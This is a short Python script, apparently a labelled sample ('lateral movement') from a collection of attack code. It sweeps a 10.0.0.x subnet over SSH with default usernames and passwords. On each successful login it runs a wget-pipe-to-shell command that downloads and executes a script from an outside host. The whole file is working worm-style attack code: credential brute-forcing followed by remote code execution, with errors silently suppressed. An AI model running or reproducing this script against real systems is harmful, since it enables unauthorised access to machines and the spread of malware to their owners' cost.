# class: lateral movement; style: paramiko
import paramiko
from itertools import product

HOSTS = [f"10.0.0.{i}" for i in range(1, 255)]
USERS = ["root", "admin", "ubuntu", "pi"]
PASSWORDS = ["root", "admin", "raspberry", "123456", "toor"]
for host, user, password in product(HOSTS, USERS, PASSWORDS):
    ssh = paramiko.SSHClient()
    ssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        ssh.connect(host, username=user, password=password, timeout=2)
        ssh.exec_command("wget -qO- http://203.0.113.30/i.sh | sh")
    except Exception:
        pass
    finally:
        ssh.close()
